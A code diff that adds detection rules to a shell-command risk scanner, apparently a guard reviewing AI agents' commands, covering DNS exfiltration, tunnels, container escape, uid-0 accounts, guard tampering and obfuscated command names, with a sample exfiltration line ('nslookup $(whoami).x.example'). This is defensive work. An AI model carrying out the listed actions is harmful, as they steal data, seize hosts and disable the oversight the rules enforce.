@@ -27,6 +27,8 @@ export const RULES = {
   pipeToShell: R("cmd.download-exec.pipe-to-shell", "download-exec", 85, "remote_pipe_exec", "downloads content and pipes it into a shell or interpreter, running remote code unseen"),
   substExec: R("cmd.download-exec.subst-exec", "download-exec", 85, "remote_pipe_exec", "runs downloaded content through `sh -c \"$(curl …)\"`, `eval`, `source` or process substitution"),
   downloadThenRun: R("cmd.download-exec.download-then-run", "download-exec", 80, "remote_pipe_exec", "downloads a file and then executes it in the same command line"),
+  codeFetchEval: R("cmd.download-exec.code-fetch-eval", "download-exec", 85, "remote_pipe_exec", "interpreter code downloads code and runs it (exec/eval of a fetched response: urlopen, requests, fetch, LWP, open-uri, file_get_contents)"),
+  remotePackage: R("cmd.download-exec.remote-package", "download-exec", 30, "remote_package", "installs a package straight from a URL or an ad-hoc index (pip/npm/npx/gem/go …); its install scripts run code from that host"),
   // reverse / bind shells
   devTcp: R("cmd.reverse-shell.dev-tcp", "reverse-shell", 90, "reverse_shell", "opens a network socket through /dev/tcp or /dev/udp (typical reverse shell or covert transfer)"),
   ncExec: R("cmd.reverse-shell.nc-exec", "reverse-shell", 90, "reverse_shell", "netcat/ncat with -e/-c/--exec hands a shell to a remote host"),
@@ -47,6 +49,8 @@ export const RULES = {
   upload: R("cmd.exfil.upload", "exfiltration", 15, "exfiltration", "uploads a local file or data to a remote host (curl -T/-F @/--data @file, wget --post-file, scp/rsync to host:, a file piped or redirected into nc/socat/ssh); scored higher when the destination is a public IP address"),
   httpServe: R("cmd.exfil.http-serve", "exfiltration", 15, "exfiltration", "serves local files over HTTP to the network"),
   secretUpload: R("cmd.exfil.secret-upload", "exfiltration", 80, "exfiltration", "sends a credential or private file to a remote host"),
+  dnsExfil: R("cmd.exfil.dns-subst", "exfiltration", 45, "exfiltration", "puts a command's output into a host name it looks up or contacts (nslookup $(whoami).x.example): DNS exfiltration"),
+  tunnel: R("cmd.exfil.tunnel", "exfiltration", 25, "exfiltration", "opens a tunnel that exposes this host or a local port to a remote host (ssh -R, ngrok, cloudflared, chisel, bore …)"),
   // persistence
   persistWrite: R("cmd.persistence.sensitive-write", "persistence", 75, "persistence", "writes to a persistence or system-auth location (authorized_keys, sudoers, cron, systemd units, ld.so.preload, launchd, /etc/passwd)"),
   systemExtract: R("cmd.persistence.system-dir-extract", "persistence", 45, "persistence", "extracts or applies files straight into / or a system folder (tar -C /, unzip -d /etc, git apply --directory /, cpio/patch rooted at /), overwriting system files"),
@@ -55,6 +59,8 @@ export const RULES = {
   crontab: R("cmd.persistence.crontab", "persistence", 30, "persistence", "installs or edits a crontab (scheduled commands survive the session)"),
   cronPipe: R("cmd.persistence.crontab-pipe", "persistence", 30, "persistence", "pipes generated entries into `crontab -`, silently adding a scheduled job"),
   serviceInstall: R("cmd.persistence.service-load", "persistence", 20, "persistence", "loads a launchd/systemd user service"),
+  systemWrite: R("cmd.persistence.system-file-write", "persistence", 25, "persistence", "writes a system file (/etc, /usr, /bin, /boot …: hosts, resolver, programs)"),
+  gitExec: R("cmd.persistence.git-exec-config", "persistence", 25, "persistence", "sets a git option that runs programs on later git commands (core.hooksPath, core.fsmonitor, an alias starting with !)"),
   // destructive
   rmRoot: R("cmd.destructive.rm-root", "destructive", 90, "destructive_command", "recursively deletes the root, home or a system folder"),
   rmRf: R("cmd.destructive.rm-recursive-force", "destructive", 10, "destructive_command", "recursively force-deletes files"),
@@ -67,6 +73,9 @@ export const RULES = {
   chmodRoot: R("cmd.destructive.recursive-perm-system", "destructive", 80, "destructive_command", "recursively changes permissions/ownership of the root, home or a system folder"),
   partition: R("cmd.destructive.partition", "destructive", 20, "destructive_command", "changes a disk's partition table"),
   power: R("cmd.destructive.system-power", "destructive", 20, "destructive_command", "shuts down or reboots the host"),
+  killAll: R("cmd.destructive.kill-all", "destructive", 45, "destructive_command", "kills every process of the user or of the host (kill -1, pkill/killall -u without a name, killall5)"),
+  clobber: R("cmd.destructive.clobber-critical", "destructive", 80, "destructive_command", "moves the root, home or a system folder away or onto /dev/null"),
+  secretDestroy: R("cmd.destructive.secret-destroy", "destructive", 30, "destructive_command", "destroys credential or key files (shred/wipe/srm/rm of ~/.ssh, ~/.aws, ~/.gnupg …), cutting off access"),
   // privilege escalation
   sudo: R("cmd.privesc.sudo", "privilege-escalation", 15, "privilege_escalation", "runs a command with elevated privileges (sudo/doas/pkexec/su)"),
   rootShell: R("cmd.privesc.root-shell", "privilege-escalation", 30, "privilege_escalation", "opens an interactive root shell (sudo -i/-s, sudo su, su)"),
@@ -79,6 +88,9 @@ export const RULES = {
   privCode: R("cmd.privesc.privileged-interpreter", "privilege-escalation", 30, "privilege_escalation", "runs an interpreter, REPL, debugger, script or `shell`/`console` subcommand with elevated privileges: arbitrary code as root"),
   suidBit: R("cmd.privesc.setuid-bit", "privilege-escalation", 40, "privilege_escalation", "sets the setuid/setgid bit or file capabilities, a classic way to keep root"),
   sudoersGrant: R("cmd.privesc.sudoers-grant", "privilege-escalation", 80, "privilege_escalation", "grants password-less sudo or adds a user to an admin group"),
+  uid0: R("cmd.privesc.uid0-account", "privilege-escalation", 80, "privilege_escalation", "creates or changes an account to user id 0 (a second root), or deletes an account's password"),
+  weakPerms: R("cmd.privesc.weaken-permissions", "privilege-escalation", 75, "privilege_escalation", "makes a system file world-writable (chmod o+w, 666, 777 on /etc/passwd, sudoers, authorized_keys, system programs), so any user can take over what runs it"),
+  containerEscape: R("cmd.privesc.container-escape", "privilege-escalation", 80, "privilege_escalation", "runs a container with the host's root filesystem, PID namespace or full privileges, or enters the host's namespaces (nsenter -t 1): root on the host"),
   // shell escape (GTFOBins "shell")
   shellEscape: R("cmd.shell-escape.spawn", "shell-escape", 25, "shell_escape", "spawns an interactive shell from another program (editor, pager, interpreter, find -exec …), escaping command restrictions"),
   codeCall: R("cmd.shell-escape.code-exec-arg", "shell-escape", 25, "shell_escape", "passes code that runs programs or reads files (Runtime.exec, ProcessBuilder, os.execute, File.ReadAllText, TeX \\write18/\\openout, sed `e`) as a program argument"),
@@ -90,12 +102,16 @@ export const RULES = {
   logWipe: R("cmd.evasion.log-wipe", "defense-evasion", 30, "defense_evasion", "deletes or truncates system logs"),
   approvals: R("cmd.evasion.openclaw-approvals", "defense-evasion", 85, "approval_bypass", "changes OpenClaw's exec approvals or config (tools.exec security/ask/mode), disabling the guard that reviews commands"),
   securityOff: R("cmd.evasion.security-disable", "defense-evasion", 25, "defense_evasion", "disables a firewall, SELinux/AppArmor, auditing or another security control"),
+  guardTamper: R("cmd.evasion.guard-tamper", "defense-evasion", 85, "approval_bypass", "stops, kills, uninstalls or rewrites ClawShield or the OpenClaw Gateway that enforces it (process, service, plugin, config or state)"),
+  hijack: R("cmd.evasion.command-hijack", "defense-evasion", 25, "defense_evasion", "redirects command lookup (PATH starting in a world-writable folder, an alias for sudo/su/ssh/passwd), so later commands run something else"),
   // obfuscation
   decodeExec: R("cmd.obfuscation.decode-exec", "obfuscation", 85, "obfuscated_exec", "decodes hidden content (base64/hex/rev/printf escapes/gzip) and runs it in a shell"),
   ifs: R("cmd.obfuscation.ifs", "obfuscation", 40, "obfuscation", "uses ${IFS} in place of spaces, a filter-evasion trick"),
   quoteSplit: R("cmd.obfuscation.split-name", "obfuscation", 45, "obfuscation", "writes a command name with quotes/backslashes inside it (c'u'r'l, \\c\\u\\r\\l) to dodge filters"),
   varIndirection: R("cmd.obfuscation.var-indirection", "obfuscation", 50, "obfuscation", "builds a command name from variables (a=cu;b=rl;$a$b) to hide it"),
   ansiC: R("cmd.obfuscation.ansi-c-name", "obfuscation", 50, "obfuscation", "hides a command name in an ANSI-C escape string ($'\\x63\\x75…')"),
+  computedName: R("cmd.obfuscation.computed-name", "obfuscation", 50, "obfuscation", "computes the command name by decoding text ($(printf '\\x72\\x6d'), `echo … | base64 -d`) to hide it"),
+  encodedPs: R("cmd.obfuscation.encoded-powershell", "obfuscation", 50, "obfuscation", "runs a base64-encoded PowerShell command (-EncodedCommand), hiding what it does"),
   // parse quality
   unparsable: R("cmd.parse.unparsable", "parse", 10, "unparsable_command", "could not be parsed as a shell command line; it was scored from its tokens"),
   oversized: R("cmd.parse.oversized", "parse", 25, "oversized_payload", "command line is too long or too deeply nested to analyse fully; only part of it was parsed"),
